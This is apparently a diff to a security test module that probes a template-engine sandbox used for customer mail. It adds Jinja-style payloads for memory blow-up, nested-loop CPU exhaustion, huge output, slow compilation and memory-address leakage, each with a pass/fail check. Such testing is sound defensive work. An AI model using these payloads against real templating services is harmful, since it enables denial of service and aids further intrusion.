@@ -1,5 +1,7 @@
 """Attacks from inside a sandbox."""
 
+import re
+
 from prover import Target
 
 from .stage import Stage
@@ -24,3 +26,61 @@ def attack_change_a_list(target: Target, stage: Stage) -> bool:
     target.mail("{{ orders.append('a yacht') }}", stage.account, stage.orders)
     print(stage.orders)
     return "a yacht" in stage.orders
+
+
+def attack_double_a_text(target: Target, stage: Stage) -> bool:
+    """Join a text to itself 23 times: 400 characters of design take megabytes."""
+    design = "{% set a = customer.name %}" + "{% set a = a~a %}" * 23
+    with stage.measure() as used:
+        target.mail(design, stage.account, stage.orders)
+    print(f"{len(design)} characters of design, {used.memory / 1e6:.0f} MB of memory")
+    return used.memory > 16e6
+
+
+def attack_loop_in_a_loop(target: Target, stage: Stage) -> bool:
+    """Nest three loops: twice as many orders take eight times as long."""
+    design = "{% for a in orders %}" * 3 + "{% endfor %}" * 3
+    seconds = []
+    for count in (100, 200):
+        with stage.measure() as used:
+            target.mail(design, stage.account, ["tea"] * count)
+        seconds.append(used.cpu)
+    print(f"{len(design)} characters of design, {200**3:,} rounds for 200 orders")
+    return seconds[1] > 4 * seconds[0]
+
+
+def attack_long_mail(target: Target, stage: Stage) -> bool:
+    """Print the whole list of orders for each of the orders."""
+    design = "{% for order in orders %}{{ orders }}{% endfor %}"
+    found = target.mail(design, stage.account, ["tea"] * 1_000)
+    print(f"{len(design)} characters of design, a mail of {len(found):,} characters")
+    return len(found) > 1_000_000
+
+
+def attack_long_design(target: Target, stage: Stage) -> bool:
+    """Send a long design; compiling it takes a thousand times its own size."""
+    design = "{{ a }}" * 4_000
+    with stage.measure() as used:
+        target.mail(design, stage.account, stage.orders)
+    print(f"{len(design):,} characters of design, {used.memory / 1e6:.0f} MB of memory")
+    return used.memory > 16e6
+
+
+def attack_slow_to_compile(target: Target, stage: Stage) -> bool:
+    """Write `not` 160 times: the engine takes many times longer than for 80."""
+    seconds = []
+    for count in (80, 160):
+        design = "{{ " + "not " * count + "orders }}"
+        with stage.measure() as used:
+            target.mail(design, stage.account, stage.orders)
+        seconds.append(used.cpu)
+    print(f"{len(design)} characters took far longer than twice what half of them took")
+    return seconds[1] > 4 * seconds[0]
+
+
+def attack_address(target: Target, stage: Stage) -> bool:
+    """Print methods instead of calling them; their text tells an address in memory."""
+    design = "{{ customer.close }} {{ customer.items }} {{ orders.index }}"
+    found = target.mail(design, stage.account, stage.orders)
+    print(re.sub("0x[0-9a-f]+", "0x…", found))
+    return re.search(" at 0x[0-9a-f]+", found) is not None
